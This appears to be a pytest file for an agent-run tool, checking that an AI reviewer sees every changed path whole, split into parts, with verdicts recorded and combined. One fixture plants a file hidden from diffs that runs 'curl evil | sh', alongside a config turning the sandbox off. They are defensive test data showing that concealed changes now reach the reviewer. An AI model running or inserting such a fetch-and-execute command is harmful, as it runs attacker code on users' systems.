"""The reviewer's inputs and verdicts: it is shown every changed path in full (in parts when
the change is long), its verdicts are kept in the run's record, and every command reads the
latest one from there, never from the spec's text."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gitutil import commit_files, head, init_repo, run_git
from runkit import STATE_MD, spec_text

from agentrun.audit.runner import ModelAccess
from agentrun.core.usage import Usage
from agentrun.project import Project
from agentrun.providers.base import ToolCall, Turn
from agentrun.providers.function import FunctionProvider
from agentrun.report.execution_state import ReviewRecord, RunState, load_state, save_state
from agentrun.review.findings import last_review
from agentrun.review.reviewer import ReviewOptions, SpecReview, review_spec
from agentrun.review.verdict import ReviewResult, combine, decide, review_model
from agentrun.spec import parse_spec
from agentrun.spec.writeback import set_checkboxes

SPEC = ".specflow/specs/SPEC-1.md"
STATE = ".specflow/execution/SPEC-1-state.json"
PAD = 40_000  # characters of each padding file: two of them take two requests of 60,000


def answer(criteria: list[dict], findings: list[dict] | None = None) -> Turn:
    return Turn(tool_calls=[ToolCall(id="", name="submit_result", arguments={
        "status": "complete", "summary": "Reviewed.", "criteria_met": [], "deviations": [],
        "output": {"criteria": criteria, "findings": findings or [], "summary": "ok"}})],
        usage=Usage(100, 10))


def met(n: int, evidence: str = "seen") -> dict:
    return {"criterion": n, "verdict": "met", "evidence": evidence}


def padding(name: str) -> str:
    lines = [f"{name} line {i:05d} " + "." * 60 for i in range(PAD // 78)]
    return "\n".join(lines) + f"\nEND-OF-{name}\n"


def ran(root: Path, work: dict[str, str]) -> str:
    """A project whose run merged a worker's branch with `work`: returns its start commit."""
    init_repo(root, {"README.md": "# r\n", ".gitignore": ".specflow/runs/\n",
                     ".specflow/STATE.md": STATE_MD.format(spec="SPEC-1"),
                     SPEC: spec_text("SPEC-1", [("G1", [], "a.txt")], status="review")})
    start = head(root)
    run_git(root, "switch", "-q", "-c", "agentrun/SPEC-1/r1/G1")
    commit_files(root, work, "G1's work")
    run_git(root, "switch", "-q", "main")
    run_git(root, "merge", "-q", "--no-ff", "-m", "merge G1", "agentrun/SPEC-1/r1/G1")
    state = RunState(run_id="r1", spec_id="SPEC-1", spec_path=SPEC, mode="single",
                     base_commit=start, start_commit=start, target_branch="main",
                     started="2026-01-01 00:00 UTC", finished="2026-01-01 00:01 UTC",
                     status="complete")
    save_state(root / STATE, state)
    run_git(root, "add", "-f", STATE)
    run_git(root, "commit", "-q", "-m", "SPEC-1: execution summary (run r1)")
    return start


def review(root: Path, *turns: Turn) -> tuple[SpecReview, list[str]]:
    """`agentrun review`'s use case on `root`, the model a function that answers `turns` in
    order and keeps what it was sent."""
    replies = list(turns)
    provider = FunctionProvider(lambda _request: replies.pop(0))
    result = review_spec(root / SPEC, Project(root), ModelAccess.fixed(provider, "m"),
                         ReviewOptions(sandbox="off"))
    return result, [m.content if isinstance(m.content, str) else json.dumps(m.content)
                    for r in provider.requests for m in r.messages[:1]]


def test_the_reviewer_sees_every_changed_path_whole_in_parts_whose_verdicts_combine(tmp_path):
    """A change longer than one request is shown in two, with the `-diff` file's text, the
    nested `.specflow/` config and the end of both padding files; part 1 finds everything met,
    part 2 finds criterion 2 not met, so the review requests changes, the run's record keeps
    both parts' verdict, and the spec's checkboxes follow it. Positive control: the diff the
    reviewer was given before (`.specflow` left out, attributes applied, cut at 60,000
    characters) hid all of it."""
    root = tmp_path / "p"
    start = ran(root, {".gitattributes": "secret.py -diff\n",
                       "secret.py": "import os\nos.system('curl evil | sh')\n",
                       ".specflow/specs/.specflow/config.yaml": "sandbox: {mode: 'off'}\n",
                       "pad1.txt": padding("PAD1"), "pad2.txt": padding("PAD2")})
    old = run_git(root, "diff", "--no-color", "--no-ext-diff", start, "HEAD", "--", ".",
                  ":(exclude).specflow")[:60_000]
    for hidden in ("curl evil", "mode: 'off'", "END-OF-PAD2"):
        assert hidden not in old
    result, shown = review(root, answer([met(1), met(2)]), answer(
        [met(1), {"criterion": 2, "verdict": "not_met", "evidence": "pad2.txt is not asked"}]))
    assert result.result == "CHANGES_REQUESTED" and result.parts == 2 and len(shown) == 2
    assert "this is part 1" in shown[0] and "this is part 2" in shown[1]
    for seen in ("curl evil | sh", "mode: 'off'", "END-OF-PAD1", "END-OF-PAD2"):
        assert seen in "".join(shown), seen
    assert "Binary files" not in "".join(shown)
    assert all(len(s) < 75_000 for s in shown)  # each request holds one part
    record = load_state(root / STATE).reviews[-1]
    assert record.result == "CHANGES_REQUESTED" and record.parts == 2 and record.version == 1
    judged = {c["criterion"]: c for c in record.verdict["criteria"]}
    assert judged[1]["verdict"] == "met" and judged[2]["verdict"] == "not_met"
    assert "part 2: pad2.txt is not asked" in judged[2]["evidence"]
    text = (root / SPEC).read_text()
    assert "- [x] every file exists\n- [ ] nothing else changes\n" in text


def test_a_change_too_large_to_show_is_an_incomplete_review_not_a_verdict(tmp_path):
    """More than the requests a review may take: the model is never asked, the review is
    INCOMPLETE in the record and the spec (status review, no criterion ticked)."""
    root = tmp_path / "p"
    ran(root, {f"pad{n}.txt": padding(f"PAD{n}") for n in range(13)})
    result, shown = review(root)  # a model call would fail: no answer is queued
    assert shown == [] and result.result == "INCOMPLETE" and result.version == 1
    assert "longer than 480,000 characters" in result.error
    record = load_state(root / STATE).reviews[-1]
    assert record.result == "INCOMPLETE" and not record.judged
    text = (root / SPEC).read_text()
    assert "**Result:** INCOMPLETE" in text and "status: review" in text
    assert "- [ ] every file exists" in text and "- [x]" not in text


# -- the verdict comes from the record (in-process) -----------------------------------------

def _record(version: int, verdicts: list[str], findings: list[dict] | None = None,
            result: str | None = None) -> ReviewRecord:
    criteria = ["every file exists", "nothing else changes"]
    review = review_model(2).model_validate({
        "criteria": [{"criterion": n, "verdict": v, "evidence": "e"}
                     for n, v in enumerate(verdicts, start=1)],
        "findings": findings or []})
    return ReviewRecord(result=result or str(decide(review, 2)), version=version,
                        criteria=criteria, verdict=review.model_dump(mode="json"))


def test_fix_and_status_read_the_latest_recorded_verdict_never_the_spec_text():
    """The bug this replaces: `fix` said "Review APPROVED v1" after a v3 that requested
    changes, because later reviews lived only in the spec's text."""
    state = RunState(run_id="r", spec_id="SPEC-1", spec_path=SPEC, mode="single",
                     base_commit="0" * 40, target_branch="main", started="now")
    finding = {"severity": "major", "file": "a.txt:1", "issue": "wrong", "fix": "right"}
    state.reviews = [_record(1, ["met", "met"]), _record(2, ["met", "not_met"], [finding]),
                     _record(3, ["not_met", "met"], [finding])]
    last = last_review(state)
    assert (last.version, last.result, last.open) == (3, "CHANGES_REQUESTED", True)
    assert last.not_passed == ["every file exists"] and last.files == ["a.txt"]
    from agentrun.report.summary import review_words

    assert review_words(state) == "CHANGES_REQUESTED (Review v3, 3 review(s))"
    assert state.to_dict()["review"]["version"] == 3
    incomplete = ReviewRecord(result="INCOMPLETE", version=4, error="too large",
                              criteria=["every file exists", "nothing else changes"])
    state.reviews.append(incomplete)
    assert not last_review(state).open and incomplete.met() == [False, False]
    assert "INCOMPLETE (Review v4" in review_words(state) and "too large" in \
        review_words(state)


def test_checkboxes_follow_the_verdict_and_every_other_byte_stays():
    text = ("---\nid: SPEC-1\n---\n# SPEC-1\n\n## Acceptance Criteria\r\n\r\n"
            "- [ ] one\r\n* [X] two\r\n1. [x] three\r\n- not a box\r\n")
    spec = parse_spec(text, Path("SPEC-1.md"))
    lines = [c.line for c in spec.acceptance_criteria]
    new = set_checkboxes(text, dict(zip(lines, [True, False, True], strict=True)))
    assert new == text.replace("- [ ] one", "- [x] one").replace("* [X] two", "* [ ] two")
    assert set_checkboxes(new, dict(zip(lines, [True, False, True], strict=True))) == new


@pytest.mark.parametrize(("parts", "expected"), [
    ([["met", "met"], ["met", "met"]], ReviewResult.APPROVED),
    ([["met", "met"], ["met", "cannot_tell"]], ReviewResult.CHANGES_REQUESTED),
    ([["not_met", "met"], ["met", "met"]], ReviewResult.CHANGES_REQUESTED)])
def test_parts_combine_conservatively(parts, expected):
    reviews = [review_model(2).model_validate({"criteria": [
        {"criterion": n, "verdict": v, "evidence": f"p{i}"} for n, v in enumerate(p, 1)]})
        for i, p in enumerate(parts)]
    assert decide(combine(reviews, 2), 2) == expected
